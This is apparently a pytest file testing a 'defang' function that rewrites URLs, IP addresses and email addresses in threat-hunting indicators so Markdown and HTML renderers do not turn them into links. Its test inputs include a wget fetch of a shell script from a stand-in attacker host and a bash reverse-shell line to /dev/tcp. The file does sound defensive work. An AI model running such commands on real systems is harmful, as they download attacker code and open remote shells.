"""hunting.defang: indicators written so no Markdown/HTML renderer makes them links."""

from __future__ import annotations

import re
import time

import pytest

from hunting.defang import defang


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (
            "wget http://update-check.evil.example.com/u.sh",
            "wget hxxp://update-check[.]evil[.]example[.]com/u.sh",
        ),
        ("HTTPS://1.2.3.4:8080/x", "hxxps://1.2.3[.]4:8080/x"),
        ("see www.evil.com now", "see www[.]evil[.]com now"),
        ("mail root@evil.org", "mail root@evil[.]org"),
        ("bash -i >& /dev/tcp/203.0.113.7/4444", "bash -i >& /dev/tcp/203.0.113[.]7/4444"),
        ("ftp://files.example.net/a", "fxp://files[.]example[.]net/a"),
        # paths, file names and version numbers are not indicators: unchanged
        ("/var/log/auth.log", "/var/log/auth.log"),
        ("chmod +x u.sh", "chmod +x u.sh"),
        ("version 1.2.3", "version 1.2.3"),
    ],
)
def test_defang_forms(raw: str, expected: str) -> None:
    assert defang(raw) == expected
    assert defang(expected) == expected  # idempotent


def test_no_autolink_candidates_left() -> None:
    """What GFM auto-links (scheme://, www., user@host.tld) no longer appears."""
    text = "x http://a.b/c https://d.e www.f.g h@i.jk"
    out = defang(text)
    assert not re.search(r"(?i)https?://|www\.|@\w+\.\w", out)


def test_linear_on_long_tokens() -> None:
    """A 1 MB token in each pattern's worst shape is one pass (well under a second)."""
    for token in ("a." * 500_000, "1" * 1_000_000, "http://" + "a" * 1_000_000, "1.2." * 250_000):
        t = time.perf_counter()
        defang(token)
        assert time.perf_counter() - t < 2.0
